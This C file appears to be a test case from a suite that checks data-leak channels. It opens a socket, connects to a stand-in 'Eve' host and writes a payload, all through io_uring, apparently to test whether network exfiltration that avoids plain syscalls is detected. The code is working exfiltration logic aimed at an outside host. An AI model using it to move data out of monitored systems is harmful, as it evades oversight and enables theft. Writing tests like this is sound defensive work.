// SPDX-License-Identifier: GPL-3.0-or-later
/* The socket, the connection and the message: all by io_uring. */
#include "flow-net.h"
#include "uring.h"

static struct ring ring;

static int before(void)
{
	return ring_open(&ring, 0) ? -errno : 0;
}

static int put(void)
{
	struct net_addr a = net_at(NET_EVE_IP, FLOW_PORT);
	struct io_uring_sqe sqe = { .opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM };
	int fd = ring_do(&ring, &sqe), r;

	if (fd < 0)
		return fd == -EINVAL ? -ENOSYS : fd;
	sqe = (struct io_uring_sqe){
		.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&a.at, .off = a.len
	};
	r = ring_do(&ring, &sqe);
	if (r < 0)
		return r;
	sqe = sqe_read(fd, flow.text, (unsigned int)flow.len);
	sqe.opcode = IORING_OP_WRITE;
	r = ring_do(&ring, &sqe);
	return r < 0 ? r : 0;
}

FLOW("attack: net_uring_connect; threat: #50; op: send; door: network", .make = make_tcp,
     .before = before, .put = put, .get = get_stream);
